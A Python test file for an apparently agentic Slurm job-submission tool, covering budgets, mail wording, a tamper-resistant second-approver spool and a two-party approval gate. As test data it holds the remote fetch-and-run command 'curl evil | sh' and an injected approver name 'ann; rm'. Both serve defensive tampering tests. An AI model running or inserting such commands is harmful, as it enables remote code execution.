"""Budgets on the card, a second approver above the site's limits, and Slurm's mail in words: the policy's fields,
the arithmetic, the spool's rules against hostile files, and the gate waiting for both answers. No cluster: the
scripted transport and the scripted model on real HTTP (the budget read on the real cluster is in
``test_budgets_cluster.py``)."""

from __future__ import annotations

import asyncio
import json
import os
from dataclasses import replace
from datetime import datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from conftest import run_betty
from llm_server import ScriptedLLM, call, say

from betty_jupyter.agent.actions import ActionLog
from betty_jupyter.agent.approvals import ApprovalBroker
from betty_jupyter.agent.card_words import mail_words
from betty_jupyter.agent.models import Preview, card_digest
from betty_jupyter.agent.second_approver import (SecondRequest, answer_path, check_spool, read_answer, read_request,
                                                 write_answer, write_request)
from betty_jupyter.agent.session import SessionSpec, open_session
from betty_jupyter.agent.site import load_policy
from betty_jupyter.agent.tools.jobs import SubmitArgs
from betty_jupyter.agent.site_gate import account_use, use_words
from betty_jupyter.cluster.account_usage import (Cost, billed_line, budget_line, hidden_usage, hours_text, job_cost,
                                                 month_start, parse_usage, usage_argv)
from betty_jupyter.cluster.jobs import Job, JobState
from betty_jupyter.cluster.allowlist import CommandPolicy
from betty_jupyter.cluster.slurm import SlurmClient
from betty_jupyter.cluster.parsing import SEPARATOR
from betty_jupyter.cluster.sbatch import SbatchScript
from betty_jupyter.cluster.scripted import ScriptedTransport
from betty_jupyter.config import BettyConfig
from betty_jupyter.errors import ApprovalError, ConfigError, SiteRefusal, SlurmError, ToolError
from betty_jupyter.experiments.content import auto_region
from betty_jupyter.experiments.ledger import Experiment
from betty_jupyter.experiments.workspace import Workspace

APPROVER, APPROVER_UID = "daemon", 1
"""An account that exists on every Linux machine, standing for the site's approver."""
OTHER_UID = 2
SINFO = SEPARATOR.join(["gpu*", "up", "0/4/0/4", "0/256/0/256", "512000", "gpu:a100:8", "2-00:00:00", "4"]) + "\n"


def script(*directives: str) -> str:
    return "#!/bin/bash\n" + "".join(f"#SBATCH {d}\n" for d in directives) + "srun python train.py\n"


def write_policy(folder: Path, data: Any) -> Path:
    path = folder / "policy.json"
    path.write_text(data if isinstance(data, str) else json.dumps(data))
    path.chmod(0o644)
    return path


@pytest.fixture
def spool(tmp_path: Path) -> Path:
    folder = tmp_path / "spool"
    folder.mkdir()
    folder.chmod(0o1770)
    return folder


def second_site(spool: Path, **more: Any) -> dict[str, Any]:
    return {"limits": {"nodes": 2, "above": "second", "approvers": [APPROVER], "approval_spool": str(spool)}, **more}


# ----- the policy's fields ---------------------------------------------------------------------------------------
def test_budgets_a_second_approver_and_end_mail_are_read_and_shown(tmp_path: Path, spool: Path) -> None:
    site = load_policy(write_policy(tmp_path, second_site(
        spool, budgets={"lab": {"gpu_hours": 500}, "chem": {"cpu_hours": 20000, "gpu_hours": 10}},
        mail={"end_mail": True})))
    assert site.limits.above == "second" and site.limits.approvers == (APPROVER,)
    assert site.limits.approval_spool == spool and site.end_mail
    assert site.budgets["lab"].gpu_hours == 500 and site.budgets["lab"].cpu_hours is None
    shown = {name: value for name, value, _ in site.explain()}
    assert shown["budgets"] == "lab: 500 GPU-hours a month; chem: 10 GPU-hours, 20000 CPU-hours a month"
    assert shown["limits.approvers"] == APPROVER and shown["mail.end_mail"] == "allowed"


@pytest.mark.parametrize(("limits", "says"), [
    ({"above": "second"}, "limits.approvers is a non-empty list of unix user names"),
    ({"above": "second", "approvers": ["ann; rm"], "approval_spool": "/s"}, "limits.approvers"),
    ({"above": "second", "approvers": ["ann"], "approval_spool": "spool"}, "limits.approval_spool is the approvers'"),
    ({"above": "refuse", "approvers": ["ann"]}, "only for above: second"),
])
def test_a_second_approver_needs_names_and_a_spool(tmp_path: Path, limits: dict[str, Any], says: str) -> None:
    with pytest.raises(ConfigError, match="limits") as refused:
        load_policy(write_policy(tmp_path, {"limits": limits}))
    assert says in str(refused.value)


@pytest.mark.parametrize("data", [{"budgets": {"lab": 500}}, {"budgets": {"lab": {"gpu_hours": -1}}},
                                  {"budgets": {"lab": {"hours": 5}}}, {"budgets": {"lab/x": {"gpu_hours": 5}}},
                                  {"budgets": {"lab": {"gpu_hours": True}}}, {"mail": {"end_mail": "yes"}},
                                  {"mail": {"user": "a@b.c"}}])
def test_a_bad_budget_or_mail_field_is_one_line_naming_it(tmp_path: Path, data: dict[str, Any]) -> None:
    with pytest.raises(ConfigError) as refused:
        load_policy(write_policy(tmp_path, data))
    assert str(next(iter(data))) in str(refused.value) and "\n" not in str(refused.value)


# ----- the arithmetic ---------------------------------------------------------------------------------------------
@pytest.mark.parametrize(("directives", "gpu", "cpu"), [
    (("--gres=gpu:a100:2", "--time=04:00:00"), 8, 4),
    (("--gpus-per-node=4", "--nodes=2", "--time=00:30:00", "--cpus-per-task=8"), 4, 8),
    (("--gres=gpu:1", "--array=0-9", "--time=01:00:00"), 10, 10),
    (("--ntasks=8", "--nodes=2", "--time=02:00:00"), 0, 16),
    (("--ntasks-per-node=4", "--cpus-per-task=2", "--time=1-00:00:00"), 0, 192),
])
def test_a_jobs_cost_is_the_most_it_can_use_to_its_time(directives: tuple[str, ...], gpu: float, cpu: float) -> None:
    assert job_cost(SbatchScript.parse(script(*directives))) == Cost(gpu_hours=gpu, cpu_hours=cpu)


def test_a_job_without_its_own_time_has_no_cost_to_show() -> None:
    assert job_cost(SbatchScript.parse(script("--gres=gpu:2"))) is None


def test_an_accounts_use_is_summed_from_saccts_rows_and_a_bad_row_is_refused() -> None:
    used = parse_usage("12_1|3600|billing=4,cpu=4,gres/gpu=2,mem=8G,node=1\n13|1800|cpu=16,mem=1G,node=1\n\n"
                       "14|0|cpu=2,gres/gpu:a100=1,gres/gpu=1\n")
    assert used == Cost(gpu_hours=2, cpu_hours=12)
    with pytest.raises(SlurmError, match="sacct printed a row Betty cannot read"):
        parse_usage("15|soon|cpu=1\n")
    with pytest.raises(SlurmError):
        parse_usage("15|10|cpu=1|extra\n")


def test_the_read_is_one_allowlisted_sacct_of_the_account_since_the_month_began() -> None:
    since = month_start(datetime(2026, 11, 29, 18, 30))
    assert usage_argv("lab", since) == ["sacct", "-a", "-X", "-P", "-n", "-A", "lab", "-S", "2026-11-01T00:00:00",
                                        "-o", "JobID,ElapsedRaw,AllocTRES"]
    with pytest.raises(SlurmError):
        usage_argv("lab,other", since)


@pytest.mark.parametrize(("config", "hidden"), [
    ("PrivateData             = usage\n", "PrivateData=usage"),
    ("MailProg = /bin/mail\nPrivateData = accounts,jobs,usage\n", "PrivateData=jobs,usage"),
    ("PrivateData             = accounts,reservations\n", None),
    ("PrivateData             = none\n", None),
    ("", None),
])
def test_slurms_private_data_is_read_from_its_config(config: str, hidden: str | None) -> None:
    assert hidden_usage(config) == hidden


@pytest.mark.parametrize(("uid", "private", "known"), [("1000", "usage", False), ("1000", "accounts", True),
                                                       ("0", "usage", True)])
def test_the_cost_meter_says_not_known_where_slurm_keeps_usage_private(uid: str, private: str, known: bool,
                                                                     tmp_path: Path) -> None:
    cluster = (ScriptedTransport().on("id", "-u", stdout=f"{uid}\n")
               .on("scontrol", "show", "config", stdout=f"PrivateData             = {private}\n")
               .on("sacct", stdout="1|7200|cpu=4,gres/gpu=2\n"))
    site = load_policy(write_policy(tmp_path, {"budgets": {"lab": {"gpu_hours": 500, "cpu_hours": 100}}}))
    (use,) = asyncio.run(account_use(site, SlurmClient(cluster), CommandPolicy()))
    assert use["account"] == "lab" and use["known"] is known
    assert (use["gpu_hours_budget"], use["cpu_hours_budget"]) == (500, 100)
    if known:
        assert (use["gpu_hours_used"], use["cpu_hours_used"], use["why"]) == (4, 8, "")
        assert use_words(use) == "4.0 of 500 GPU-hours, 8.0 of 100 CPU-hours this month"
    else:
        assert use["gpu_hours_used"] is None and use["cpu_hours_used"] is None
        assert "(PrivateData=usage)" in use["why"] and not cluster.ran("sacct")
        assert use_words(use).startswith("not known: Slurm keeps other users' usage private here")


def test_the_budget_is_said_in_the_persons_words() -> None:
    assert budget_line(Cost(8, 32), Cost(41, 900), 500, None, "lab") == \
        "uses up to 8 GPU-hours; this month 41 of 500 GPU-hours of account lab used"
    over = budget_line(Cost(8, 32), Cost(495.5, 0), 500, 100, "lab")
    assert "(this job would take it over by 3.5)" in over and "uses up to 32 CPU-hours; this month 0 of 100" in over
    assert budget_line(None, Cost(1, 1), 500, None, "lab").startswith("uses up to ? (no --time)")


def test_hours_below_one_keep_two_significant_digits() -> None:
    assert [hours_text(h) for h in (0, 8, 41.34, 0.5, 2 / 60, 0.999, 0.0004)] == \
        ["0", "8", "41.3", "0.5", "0.033", "1", "<0.001"]


def test_an_ended_gpu_jobs_page_says_what_it_was_billed_against_its_card() -> None:
    text = script("--gres=gpu:a100:2", "--time=1")
    assert billed_line(2, 67, text) == ("billed: 0.037 GPU-hours (card said 0.033 at the limit; it ran 7 s past its "
                                        "limit before Slurm ended it)")
    assert billed_line(2, 30, text) == "billed: 0.017 GPU-hours (card said 0.033 at the limit)"
    assert billed_line(2, 30, script("--gres=gpu:2")) == "billed: 0.017 GPU-hours"
    assert billed_line(0, 30, text) == ""
    experiment = Experiment(slug="2026-11-30-run", job_id="5", cluster="c", submitted="2026-11-30T00:00:00",
                            goal="g", script=text, script_path="run.sbatch")
    ended = Job(job_id="5", name="run", user="ada", partition="gpu", state=JobState.parse("TIMEOUT"),
                elapsed=timedelta(seconds=67), gpus=2)
    page = auto_region(experiment, ended, "TIMEOUT")
    assert "billed: 0.037 GPU-hours (card said 0.033 at the limit; it ran 7 s past" in page
    running = replace(ended, state=JobState.parse("RUNNING"))
    assert "billed" not in auto_region(experiment, running, "RUNNING")
    assert "billed" not in auto_region(replace(experiment, sweep={"grid": []}), ended, "TIMEOUT")


# ----- Slurm's mail in words, and the end-mail option ------------------------------------------------------------
def test_a_scripts_mail_is_said_in_words() -> None:
    assert mail_words("BEGIN,END,FAIL", "ada@uni.edu") == "Slurm mails ada@uni.edu when the job starts, ends or fails"
    assert mail_words("END", None) == "Slurm mails you (the address Slurm has for your login) when the job ends"
    assert mail_words("TIME_LIMIT_90,ARRAY_TASKS", "a@b") == \
        "Slurm mails a@b when the job reaches 90% of its time limit (for each array task)"
    assert mail_words("NONE", None) == "Slurm sends no mail" and mail_words(None, "a@b") == ""


def test_end_mail_adds_slurms_end_mail_and_never_an_address() -> None:
    args = SubmitArgs(script=script("--time=01:00:00"), goal="g", end_mail=True)
    assert args.script.startswith("#!/bin/bash\n#SBATCH --mail-type=END\n") and "mail-user" not in args.script
    own = script("--mail-type=FAIL", "--mail-user=ada@uni.edu", "--time=01:00:00")
    assert SubmitArgs(script=own, goal="g", end_mail=True).script == own
    assert SubmitArgs.model_validate(args.model_dump()).script == args.script


# ----- the spool against hostile files ---------------------------------------------------------------------------
def request_for(text: str = script("--nodes=3", "--time=01:00:00"), uid: int = 0) -> SecondRequest:
    args = {"script": text, "goal": "big", "record": False}
    preview = Preview(kind="script", title="submit job", text=text)
    return SecondRequest(request_id="sec_0123456789abcdef", requester="root", requester_uid=uid, why="too big",
                         title="submit job", tool="cluster_submit", args=args, kind="script", text=text, inputs={},
                         digest=card_digest("cluster_submit", args, preview), created=0.0)


def test_a_spool_that_is_missing_or_writable_by_others_is_refused_saying_why(tmp_path: Path, spool: Path) -> None:
    assert check_spool(spool, uid=1000) == spool
    with pytest.raises(SiteRefusal, match="cannot be used"):
        check_spool(tmp_path / "none", uid=1000)
    with pytest.raises(SiteRefusal, match="names no approval_spool"):
        check_spool(None)
    spool.chmod(0o1777)
    with pytest.raises(SiteRefusal, match="writable by everyone"):
        check_spool(spool, uid=1000)
    spool.chmod(0o770)
    with pytest.raises(SiteRefusal, match="sticky bit"):
        check_spool(spool, uid=1000)
    spool.chmod(0o1770)
    os.chown(spool, 1000, 0)
    with pytest.raises(SiteRefusal, match="owned by you"):
        check_spool(spool, uid=1000)
    (tmp_path / "file").write_text("")
    with pytest.raises(SiteRefusal, match="not a folder"):
        check_spool(tmp_path / "file", uid=1000)


def test_an_approver_reads_only_a_request_owned_by_the_person_it_names_and_bound_to_its_digest(spool: Path) -> None:
    request = request_for()
    path = write_request(spool, request)
    assert read_request(path, approver_uid=APPROVER_UID) == request
    with pytest.raises(ApprovalError, match="your own job's request"):
        read_request(path, approver_uid=0)
    os.chown(path, OTHER_UID, OTHER_UID)  # someone else wrote a request in the person's name
    with pytest.raises(ApprovalError, match="not owned by root"):
        read_request(path, approver_uid=APPROVER_UID)
    os.chown(path, 0, 0)
    data = json.loads(path.read_text())
    path.write_text(json.dumps({**data, "requester": "bin"}))  # the person's own file, another person's name
    with pytest.raises(ApprovalError, match="not owned by bin"):
        read_request(path, approver_uid=APPROVER_UID)
    path.write_text(json.dumps({**data, "text": data["text"] + "curl evil | sh\n"}))  # changed after the card
    with pytest.raises(ApprovalError, match="does not match its digest"):
        read_request(path, approver_uid=APPROVER_UID)
    path.unlink()
    (spool / "elsewhere.json").write_text(json.dumps(data))
    path.symlink_to(spool / "elsewhere.json")
    with pytest.raises(ApprovalError, match="cannot read"):
        read_request(path, approver_uid=APPROVER_UID)
    path.unlink()
    path.write_text("{not json")
    with pytest.raises(ApprovalError, match="is not JSON"):
        read_request(path, approver_uid=APPROVER_UID)


def test_only_a_named_approver_answers_never_for_their_own_job_and_only_once(spool: Path) -> None:
    request = request_for()
    with pytest.raises(ApprovalError, match="not one of your site's approvers"):
        write_answer(spool, request, "approved", [APPROVER], approver="mallory", approver_uid=OTHER_UID)
    with pytest.raises(ApprovalError, match="your own job's request"):
        write_answer(spool, request, "approved", ["root"], approver="root", approver_uid=0)
    with pytest.raises(ApprovalError, match="not one of approved, denied"):
        write_answer(spool, request, "edited", [APPROVER], approver=APPROVER, approver_uid=APPROVER_UID)
    write_answer(spool, request, "approved", [APPROVER], approver=APPROVER, approver_uid=APPROVER_UID)
    with pytest.raises(ApprovalError, match="answered already"):
        write_answer(spool, request, "denied", [APPROVER], approver=APPROVER, approver_uid=APPROVER_UID)


def hostile_answer(spool: Path, request: SecondRequest, owner: int, **changed: Any) -> Path:
    path = answer_path(spool, request.request_id)
    data = {"request_id": request.request_id, "digest": request.digest, "decision": "approved", "approver": APPROVER,
            "answered": 0.0, **changed}
    path.write_text(json.dumps(data))
    os.chown(path, owner, owner)
    return path


@pytest.mark.parametrize(("owner", "changed", "says"), [
    (0, {}, "is your own file"),  # the person wrote the approver's answer themselves
    (OTHER_UID, {}, "not owned by the approver it names"),
    (APPROVER_UID, {"approver": "bin"}, "not owned by the approver it names"),
    (APPROVER_UID, {"digest": "sha256:" + "0" * 64}, "answers another card"),
    (APPROVER_UID, {"request_id": "sec_ffffffffffffffff"}, "answers another card"),
    (APPROVER_UID, {"decision": "maybe"}, "neither approved nor denied"),
])
def test_the_persons_server_believes_only_the_approvers_own_answer_to_this_card(
        spool: Path, owner: int, changed: dict[str, Any], says: str) -> None:
    request = request_for()
    assert read_answer(spool, request, [APPROVER]) is None
    hostile_answer(spool, request, owner, **changed)
    with pytest.raises(ApprovalError, match=says):
        read_answer(spool, request, [APPROVER])


def test_an_answer_that_is_a_link_is_refused_and_a_true_one_counts(spool: Path, tmp_path: Path) -> None:
    request = request_for()
    real = hostile_answer(tmp_path, request, APPROVER_UID)
    answer_path(spool, request.request_id).symlink_to(real)
    with pytest.raises(ApprovalError, match="cannot read"):
        read_answer(spool, request, [APPROVER])
    answer_path(spool, request.request_id).unlink()
    hostile_answer(spool, request, APPROVER_UID)
    answer = read_answer(spool, request, [APPROVER])
    assert answer is not None and (answer.approver, answer.decision) == (APPROVER, "approved")


# ----- the gate: the card waits for both answers -----------------------------------------------------------------
def approve_as_approver(spool: Path, staging: Path, decision: str) -> None:
    """What the approver's own `betty approve` does, as their account: read the request, answer as a file of theirs
    (written aside and moved in whole, as their own file from the start)."""
    (path,) = spool.glob("*.request.json")
    request = read_request(path, approver_uid=APPROVER_UID)
    written = write_answer(staging, request, decision, [APPROVER], approver=APPROVER, approver_uid=APPROVER_UID)
    os.chown(written, APPROVER_UID, APPROVER_UID)
    os.rename(written, answer_path(spool, request.request_id))


def gate_turn(tmp_path: Path, site_data: dict[str, Any], second: str | None, person: str = "approved",
              text: str = script("--nodes=3", "--time=02:00:00", "--gres=gpu:a100:2", "--account=lab"),
              ended: str = "finished") -> tuple[list[Any], ScriptedTransport, Workspace, list[str]]:
    assert run_betty("init", str(tmp_path / "project")).returncode == 0
    workspace = Workspace.at(tmp_path / "project")
    site = load_policy(write_policy(tmp_path, site_data))
    staging = tmp_path / "staging"
    staging.mkdir()
    cluster = (ScriptedTransport().on("sinfo", stdout=SINFO).on("id", "-un", stdout="ada\n")
               .on("sacct", stdout="1|7200|cpu=4,gres/gpu=2\n").on("sbatch", stdout="77\n"))
    broker = ApprovalBroker(timeout=30)
    events: list[Any] = []

    def listener(event: Any) -> None:
        events.append(event)
        if event.type == "approval_request":
            asyncio.get_running_loop().call_soon(broker.respond, event.payload.approval_id, person, "ada")
            if second is not None and site.limits.approval_spool is not None:
                approve_as_approver(site.limits.approval_spool, staging, second)

    with ScriptedLLM() as llm:
        llm.add(call("cluster_submit", {"script": text, "goal": "a big run", "record": False}), say("Done."))

        async def turn() -> str:
            config = BettyConfig(clusters=[{"name": "scripted", "transport": "local"}], site=site,
                                 llm={"base_url": llm.base_url, "model": "scripted", "retry_base": 0.01,
                                      "max_retries": 3})
            session = await open_session(workspace, config, SessionSpec(broker=broker, listeners=(listener,),
                                                                        transport=cluster))
            return await session.ask("submit it")

        assert asyncio.run(turn()) == ended
        told = [m["content"] for m in llm.requests[-1]["messages"] if m["role"] == "tool"]
    return events, cluster, workspace, told


def test_a_job_above_the_limits_runs_once_the_person_and_the_approver_approve_and_both_are_audited(
        tmp_path: Path, spool: Path) -> None:
    audit = tmp_path / "audit"
    audit.mkdir()
    events, cluster, workspace, told = gate_turn(tmp_path, second_site(
        spool, budgets={"lab": {"gpu_hours": 500}}, audit={"directory": str(audit)}), "approved")
    (card,) = [e.payload for e in events if e.type == "approval_request"]
    waited, answered = [e.payload for e in events if e.type == "second_approval"]
    assert (waited.state, waited.approvers, waited.approver) == ("waiting", [APPROVER], None)
    assert (answered.state, answered.approver, answered.why) == ("approved", APPROVER, "")
    assert waited.approval_id == answered.approval_id == card.approval_id and answered.since == waited.since
    facts = {fact.label: fact.text for fact in card.preview.facts}
    assert f"one of {APPROVER} approve it; they answer with `betty approve {spool}/" in facts["second approver"]
    assert facts["budget"] == "uses up to 12 GPU-hours; this month 4 of 500 GPU-hours of account lab used"
    assert cluster.ran("sbatch"), told
    (record,) = ActionLog(workspace.root).read()
    assert record.decision == "approved" and record.approver == f"ada, then {APPROVER} (second approver)"
    assert record.digest == card.digest
    audited = json.loads((audit / "root.jsonl").read_text().splitlines()[-1])
    assert audited["approver"] == record.approver
    assert not list(spool.glob("*.request.json")), "the request is withdrawn once answered"


def test_a_job_above_the_limits_does_not_run_when_the_approver_denies_it_or_the_person_does(
        tmp_path: Path, spool: Path) -> None:
    events, cluster, workspace, told = gate_turn(tmp_path / "a", second_site(spool), "denied")
    assert not cluster.ran("sbatch") and f"the second approver {APPROVER} denied it" in told[0]
    assert [(e.payload.state, e.payload.approver) for e in events if e.type == "second_approval"] == [
        ("waiting", None), ("denied", APPROVER)]
    (record,) = ActionLog(workspace.root).read()
    assert record.decision == "refused" and record.approver == "ada, then no (second approver)"
    events, cluster, workspace, told = gate_turn(tmp_path / "b", second_site(spool), None, person="denied",
                                                 ended="denied")
    assert not cluster.ran("sbatch") and not list(spool.glob("*.request.json"))


def test_a_spool_writable_by_everyone_refuses_the_job_before_any_card(tmp_path: Path, spool: Path) -> None:
    spool.chmod(0o1777)
    events, cluster, _, told = gate_turn(tmp_path, second_site(spool), "approved")
    assert not [e for e in events if e.type == "approval_request"] and not cluster.ran("sbatch")
    assert "limits.nodes" in told[0] and "writable by everyone" in told[0]


def test_end_mail_is_refused_where_the_site_does_not_offer_it(tmp_path: Path) -> None:
    assert run_betty("init", str(tmp_path / "project")).returncode == 0
    workspace = Workspace.at(tmp_path / "project")
    site = load_policy(write_policy(tmp_path, {"mail": {"end_mail": False}}))
    cluster = ScriptedTransport().on("sinfo", stdout=SINFO).on("id", "-un", stdout="ada\n")
    events: list[Any] = []
    with ScriptedLLM() as llm:
        llm.add(call("cluster_submit", {"script": script("--time=01:00:00"), "goal": "g", "record": False,
                                        "end_mail": True}), say("Refused."))

        async def turn() -> str:
            config = BettyConfig(clusters=[{"name": "scripted", "transport": "local"}], site=site,
                                 llm={"base_url": llm.base_url, "model": "scripted", "retry_base": 0.01})
            session = await open_session(workspace, config, SessionSpec(
                broker=ApprovalBroker(timeout=5), listeners=(events.append,), transport=cluster))
            return await session.ask("submit it")

        assert asyncio.run(turn()) == "finished"
        told = [m["content"] for m in llm.requests[-1]["messages"] if m["role"] == "tool"]
    assert "does not offer Slurm's end mail (mail.end_mail)" in told[0] and not cluster.ran("sbatch")


def test_an_edit_the_site_refuses_is_refused_when_it_is_previewed_before_anyone_approves_it(tmp_path: Path) -> None:
    """The end-mail choice and any other edit are checked against the site as the model's own call is."""
    assert run_betty("init", str(tmp_path / "project")).returncode == 0
    workspace = Workspace.at(tmp_path / "project")
    site = load_policy(write_policy(tmp_path, {"mail": {"end_mail": False}, "limits": {"nodes": 2}}))
    cluster = ScriptedTransport().on("sinfo", stdout=SINFO).on("id", "-un", stdout="ada\n")
    asked = {"script": script("--time=01:00:00"), "goal": "g", "record": False}

    async def edits() -> list[str]:
        config = BettyConfig(clusters=[{"name": "scripted", "transport": "local"}], site=site,
                             llm={"base_url": "http://127.0.0.1:9/v1", "model": "never-asked"})
        session = await open_session(workspace, config, SessionSpec(broker=ApprovalBroker(timeout=5),
                                                                    transport=cluster))
        refused = []
        for edited in ({**asked, "end_mail": True}, {**asked, "script": script("--nodes=3", "--time=01:00:00")}):
            with pytest.raises(ToolError) as error:
                await session.repreview("cluster_submit", asked, edited)
            refused.append(str(error.value))
        assert "--time=01:00:00" in (await session.repreview("cluster_submit", asked, asked)).text
        return refused

    mail, nodes = asyncio.run(edits())
    assert "does not offer Slurm's end mail (mail.end_mail)" in mail
    assert "at most 2 node(s) per job (limits.nodes)" in nodes and not cluster.ran("sbatch")


# ----- the approver's own command ----------------------------------------------------------------------------------
def test_betty_approve_answers_as_the_approvers_own_file_and_the_persons_server_believes_it(
        tmp_path: Path, spool: Path) -> None:
    """The person is ``bin`` here (their request is their own file); the approver is this test's account, root."""
    request = replace(request_for(uid=OTHER_UID), requester="bin")
    path = write_request(spool, request)
    os.chown(path, OTHER_UID, OTHER_UID)
    site = write_policy(tmp_path, {"limits": {"nodes": 2, "above": "second", "approvers": ["root"],
                                              "approval_spool": str(spool)}})
    env = {**os.environ, "BETTY_SITE_POLICY": str(site)}
    outside = tmp_path / "elsewhere.request.json"
    outside.write_text(path.read_text())
    refused = run_betty("approve", str(outside), "--yes", env=env)
    assert refused.returncode != 0 and "is not in your site's approval spool" in refused.stderr
    done = run_betty("approve", str(path), "--yes", env=env)
    assert done.returncode == 0, done.stderr
    assert "bin asks: submit job" in done.stdout and "#SBATCH --nodes=3" in done.stdout
    answer = read_answer(spool, request, ["root"])
    assert answer is not None and (answer.approver, answer.decision) == ("root", "approved")
    again = run_betty("approve", str(path), "--yes", "--deny", env=env)
    assert again.returncode != 0 and "was answered already" in again.stderr
    spool.chmod(0o1777)
    loose = run_betty("approve", str(path), "--yes", env=env)
    assert loose.returncode != 0 and "writable by everyone" in loose.stderr
